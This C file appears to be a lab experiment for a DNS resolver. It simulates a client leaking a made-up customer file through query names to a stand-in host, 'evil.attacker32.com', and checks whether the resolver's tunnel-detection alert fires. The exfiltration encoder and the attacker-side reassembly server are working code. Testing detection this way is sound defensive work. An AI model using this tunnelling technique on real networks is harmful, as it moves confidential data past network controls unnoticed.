/* tunnel: a file leaves the network through the resolver.
 *
 * Bob may send packets to nobody but the resolver.  That is enough: the resolver sends each
 * name that it does not know to the servers of the name's zone.  So Bob cuts a file into
 * pieces, spells each piece in letters, and asks for PIECE.NUMBER.evil.attacker32.com.  The
 * server of evil.attacker32.com puts the pieces together, and acknowledges each in a TXT
 * record: that is the way back.
 *
 * Every single query is a legal one, so nothing is blocked.  But benign names are few, or they
 * come again, or they carry little.  The resolver adds up what the new names of each client
 * carry to each domain, and raises an alert. */
#include <ctype.h>
#include <unistd.h>

#include "base/now.h"
#include "dns/dname_text.h"
#include "resolver/answer/tunnel.h"
#include "tools/lab/experiment.h"

enum {
    FILE_LEN = 8000,
    LABEL_LEN = 56, /* base32: 8 letters are 5 octets */
    LABELS = 3,
    PIECE_LEN = LABELS * LABEL_LEN * 5 / 8,
    NAME_MAX_LEN = 256,
    REPLY_WAIT_MS = 3000,
    TRIES = 5,
    RECORD_HEAD = 13, /* octets of a TXT record before its text */
};

static const char alphabet[] = "abcdefghijklmnopqrstuvwxyz234567";

/* What the attacker's server has received. */
static struct {
    char file[FILE_LEN + PIECE_LEN];
    size_t len;        /* octets that have come, from the first on without a gap */
    unsigned queries;  /* of any name and type: the resolver minimises names */
    size_t ack_octets; /* sent back */
} server;

/* ---- bob ---- */

/* The file: customers and their numbers. */
static void make_file(struct trial *t, char file[FILE_LEN])
{
    static const char *const first[] = {"Ada", "Alan", "Barbara", "Edsger", "Grace", "Niklaus"};
    static const char *const last[] = {"Byron", "Hopper", "Liskov", "Turing", "Wirth"};
    size_t len = 0;

    while (len < FILE_LEN) {
        char line[80];
        snprintf(line, sizeof(line), "%s %s, account %08u, balance %u.%02u\n",
                 first[rng_below(&t->rng, ARRAY_LEN(first))],
                 last[rng_below(&t->rng, ARRAY_LEN(last))], rng_below(&t->rng, 100000000),
                 rng_below(&t->rng, 100000), rng_below(&t->rng, 100));
        const size_t more = util_min(strlen(line), FILE_LEN - len);
        memcpy(file + len, line, more);
        len += more;
    }
}

/* Spell a piece in labels: five bits per letter. */
static void spell(const uint8_t piece[PIECE_LEN], unsigned number, char name[NAME_MAX_LEN])
{
    size_t len = 0;

    for (unsigned i = 0; i < LABELS * LABEL_LEN; i++) {
        const unsigned bit = 5 * i, at = bit / 8;
        const unsigned next = at + 1 < PIECE_LEN ? piece[at + 1] : 0;
        const unsigned both = (unsigned)piece[at] << 8 | next;
        name[len++] = alphabet[both >> (11 - bit % 8) & 31];
        if (i % LABEL_LEN == LABEL_LEN - 1)
            name[len++] = '.';
    }
    snprintf(name + len, NAME_MAX_LEN - len, "n%u.evil.attacker32.com", number);
}

/* ---- the server ---- */

/* Read the letters of a piece back. */
static void read_piece(const uint8_t *name, uint8_t piece[PIECE_LEN])
{
    memset(piece, 0, PIECE_LEN);
    for (unsigned i = 0; i < LABELS * LABEL_LEN; i++) {
        const uint8_t letter = name[i / LABEL_LEN * (LABEL_LEN + 1) + 1 + i % LABEL_LEN];
        const char *found = strchr(alphabet, tolower(letter)); /* the resolver mixes case */
        const unsigned value = found ? (unsigned)(found - alphabet) : 0;
        const unsigned bit = 5 * i, at = bit / 8, both = value << (11 - bit % 8);
        piece[at] |= (uint8_t)(both >> 8);
        if (at + 1 < PIECE_LEN)
            piece[at + 1] |= (uint8_t)both;
    }
}

/* Take a piece and acknowledge it.  Queries for parts of the name, which the resolver sends to
 * find out where zones begin, get an empty answer. */
static void take_piece(struct trial *t, const struct message *query,
                       struct trial_message *reply)
{
    const uint8_t *name = message_qname(query);
    char owner[DNAME_TEXT_MAX], text[64];

    server.queries++;
    if (query->qtype != RRTYPE_TXT || dname_len(name) < LABELS * (LABEL_LEN + 1))
        return;
    const uint8_t *number = name + LABELS * (LABEL_LEN + 1); /* label nNUMBER */
    const size_t at = strtoul((const char *)number + 2, NULL, 10) * PIECE_LEN;
    if (at == server.len && at < FILE_LEN) {
        read_piece(name, (uint8_t *)server.file + at);
        server.len += PIECE_LEN;
    }
    const int len =
        snprintf(text + 1, sizeof(text) - 1, "%zu octets have come; go on", server.len);
    text[0] = (char)len;
    server.ack_octets += (size_t)len;
    dname_text_print(name, owner);
    trial_record(reply, MESSAGE_ANSWER, owner, RRTYPE_TXT, 0, text, (size_t)len + 1);
    trial_tell(t, "the server has %zu octets", server.len);
}

/* ---- the resolver ---- */

/* Write what the resolver's status says of Bob; "": nothing. */
static void read_alert(const struct trial *t, char out[TRIAL_OUTCOME_MAX])
{
    struct json *status = trial_control(t, "status");
    const struct json *list = json_find(status, "recent-tunnels");

    out[0] = '\0';
    for (size_t i = 0; i < json_count(list); i++) {
        const struct json *one = json_at(list, i);
        const char *client = json_get_text(one, "client", "");
        if (strcmp(client, topology_find("bob")->v4) == 0)
            snprintf(out, TRIAL_OUTCOME_MAX, "%s to %s", client,
                     json_get_text(one, "zone", ""));
    }
    json_free(&status);
}

/* Return after how many names the alert should come, if letters of base32 were as random as
 * they could be; those of text are a little less.  The weight of a name is the square of what
 * it and its reply carry. */
static int64_t expect_names(void)
{
    const size_t carried =
        PIECE_LEN + RECORD_HEAD + server.ack_octets / (server.len / PIECE_LEN);
    return (int64_t)(TUNNEL_FULL / (carried * carried)) + 1;
}

static void run_tunnel(struct trial *t)
{
    static char file[FILE_LEN + PIECE_LEN];
    char name[NAME_MAX_LEN], alert[TRIAL_OUTCOME_MAX] = "";
    const struct addr at = trial_second("attacker", 53);
    const int fd = trial_open(t, "attacker", &at, SOCK_DGRAM);
    const uint64_t start_us = now_mono_us();
    unsigned pieces = 0, alert_pieces = 0, tries = 0;

    memset(&server, 0, sizeof(server));
    make_file(t, file);
    while (tries < TRIES && pieces * PIECE_LEN < FILE_LEN) {
        spell((const uint8_t *)file + pieces * PIECE_LEN, pieces, name);
        const int client = trial_ask_begin(t, "bob", name, RRTYPE_TXT);
        trial_serve(t, fd, client, REPLY_WAIT_MS, take_piece);
        tries++;
        if (trial_ask_end(client, REPLY_WAIT_MS).answer_cnt == 0)
            continue;
        pieces++;
        tries = 0;
        if (alert_pieces == 0 && trial_counter(t, "tunnel-alerts") > 0) {
            alert_pieces = pieces;
            trial_real(t, "seconds-until-alert", (double)(now_mono_us() - start_us) / 1e6);
            trial_number(t, "names-until-alert", alert_pieces);
            trial_number(t, "names-expected", expect_names());
            trial_number(t, "octets-until-alert", (int64_t)alert_pieces * PIECE_LEN);
        }
    }
    close(fd);
    if (alert_pieces > 0)
        read_alert(t, alert);
    const bool is_whole = server.len >= FILE_LEN && memcmp(server.file, file, FILE_LEN) == 0;
    trial_number(t, "octets-of-the-file", FILE_LEN);
    trial_number(t, "octets-moved", (int64_t)util_min(server.len, FILE_LEN));
    trial_text(t, "file-at-the-server", "%s", is_whole ? "whole, octet by octet" : "not whole");
    trial_number(t, "names-of-bob", pieces);
    trial_number(t, "queries-at-the-server", server.queries);
    trial_number(t, "octets-sent-back", (int64_t)server.ack_octets);
    trial_text(t, "alert", "%s", *alert ? alert : "none");
    if (*alert)
        trial_end(t, false, "noticed after %u names, %u octets: %s", alert_pieces,
                  alert_pieces * PIECE_LEN, alert);
    else if (is_whole)
        trial_end(t, true, "%u octets left through the resolver, unnoticed", FILE_LEN);
    else
        trial_end(t, false, "%zu octets of %u have come", server.len, FILE_LEN);
}

const struct experiment experiment_tunnel = {
    .name = "tunnel",
    .what = "a client that can reach only the resolver sends a file out in query names",
    .without = "tunnel-detection",
    .stopped = "an alert: the resolver adds up how much the new names of each client carry to "
               "each domain.  It blocks nothing: that is for the operator",
    .counters = {"tunnel-alerts", "queries-sent-udp"},
    .run = run_tunnel,
};
